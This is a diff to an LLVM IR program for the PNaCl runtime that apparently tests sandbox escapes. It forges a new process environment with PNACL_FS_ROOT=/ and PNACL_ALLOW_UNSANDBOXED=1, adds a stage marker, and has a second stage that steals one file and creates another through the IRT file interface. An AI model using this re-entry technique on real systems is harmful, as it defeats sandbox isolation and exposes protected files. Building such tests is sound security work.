@@ -10,6 +10,8 @@ target triple = "le32-unknown-nacl"
 @mem_name = internal constant [20 x i8] c"nacl-irt-memory-0.3\00"
 @root_env = internal constant [16 x i8] c"PNACL_FS_ROOT=/\00"
 @unsafe_env = internal constant [26 x i8] c"PNACL_ALLOW_UNSANDBOXED=1\00"
+; How the second entry knows itself: the runtime hands the pexe this (as STAGE=2).
+@stage_env = internal constant [18 x i8] c"PNACL_ENV_STAGE=2\00"
 @newline = internal constant [2 x i8] c"\0A\00"
 @escaped = internal constant [9 x i8] c"escaped\0A\00"
 ; The IRT tables, filled at start.
@@ -316,7 +318,8 @@ done:
 }
 
 ; The forged initial stack of a new process start: argc, argv (this one's), 0, an
-; environment holding PNACL_FS_ROOT=/ (and the opt-out, for targets with no sandbox), 0,
+; environment holding PNACL_FS_ROOT=/ (and the opt-out, for targets with no sandbox, and
+; the stage's mark), 0,
 ; then an empty auxv. Returns its address.
 define internal i32 @forge_stack(i32 %mem) {
 entry:
@@ -350,20 +353,25 @@ env:
   %uns = ptrtoint [26 x i8]* @unsafe_env to i32
   call void @store32(i32 %e2, i32 %uns)
   %e3 = add i32 %e0, 12
-  call void @store32(i32 %e3, i32 0)
+  %stage = ptrtoint [18 x i8]* @stage_env to i32
+  call void @store32(i32 %e3, i32 %stage)
   %e4 = add i32 %e0, 16
   call void @store32(i32 %e4, i32 0)
   %e5 = add i32 %e0, 20
   call void @store32(i32 %e5, i32 0)
+  %e6 = add i32 %e0, 24
+  call void @store32(i32 %e6, i32 0)
   ret i32 %mem
 }
 
-; Stage two of the re-entry attacks: started again with PNACL_FS_ROOT=/, the program
-; steals argv[2] and creates argv[3] through the IRT's own file interface.
+; Stage two of the re-entry attacks: started again with PNACL_FS_ROOT=/ (and STAGE=2 to
+; say so), the program steals argv[2] and creates argv[3] through the IRT's own file
+; interface.
 define internal i32 @stage_two() {
 entry:
-  %root = ptrtoint [16 x i8]* @root_env to i32
-  %again.i = call i32 @env_has(i32 %root)
+  %stage = ptrtoint [18 x i8]* @stage_env to i32
+  %root.i = add i32 %stage, 10
+  %again.i = call i32 @env_has(i32 %root.i)
   %again = icmp ne i32 %again.i, 0
   br i1 %again, label %steal, label %no
 steal:
@@ -421,4 +429,65 @@ missing:
   ret i32 0
 found:
   ret i32 %a
+}
+
+@numbuf = internal global [16 x i8] zeroinitializer, align 4
+
+; Prints %v (unsigned, decimal) and a newline to standard error.
+define internal void @print_num(i32 %v) {
+entry:
+  %b = ptrtoint [16 x i8]* @numbuf to i32
+  %end = add i32 %b, 15
+  call void @store8(i32 %end, i32 0)
+  br label %loop
+loop:
+  %p = phi i32 [ %end, %entry ], [ %p1, %loop ]
+  %x = phi i32 [ %v, %entry ], [ %q, %loop ]
+  %p1 = sub i32 %p, 1
+  %d = urem i32 %x, 10
+  %c = add i32 %d, 48
+  call void @store8(i32 %p1, i32 %c)
+  %q = udiv i32 %x, 10
+  %more = icmp ne i32 %q, 0
+  br i1 %more, label %loop, label %done
+done:
+  call void @print(i32 %p1)
+  %nl = ptrtoint [2 x i8]* @newline to i32
+  call void @print(i32 %nl)
+  ret void
+}
+
+; memory mmap of %len bytes, readable and writable: the address, or 0.
+define internal i32 @map(i32 %len) {
+  %t = ptrtoint [12 x i8]* @mem to i32
+  %f = call i32 @load32(i32 %t)
+  %fn = inttoptr i32 %f to i32 (i32, i32, i32, i32, i32, i64)*
+  %slot = alloca i8, i32 4, align 4
+  %s = ptrtoint i8* %slot to i32
+  call void @store32(i32 %s, i32 0)
+  %e = call i32 %fn(i32 %s, i32 %len, i32 3, i32 34, i32 -1, i64 0)
+  %ok = icmp eq i32 %e, 0
+  %a = call i32 @load32(i32 %s)
+  %r = select i1 %ok, i32 %a, i32 0
+  ret i32 %r
+}
+
+; basic nanosleep, a second at a time, for ever.
+define internal void @sleep_forever() {
+entry:
+  %ts = alloca i8, i32 16, align 8
+  %p = ptrtoint i8* %ts to i32
+  call void @store32(i32 %p, i32 1)
+  %p4 = add i32 %p, 4
+  call void @store32(i32 %p4, i32 0)
+  %p8 = add i32 %p, 8
+  call void @store32(i32 %p8, i32 0)
+  %t = ptrtoint [24 x i8]* @basic to i32
+  %fp = add i32 %t, 12
+  %f = call i32 @load32(i32 %fp)
+  %fn = inttoptr i32 %f to i32 (i32, i32)*
+  br label %loop
+loop:
+  %r = call i32 %fn(i32 %p, i32 0)
+  br label %loop
 }
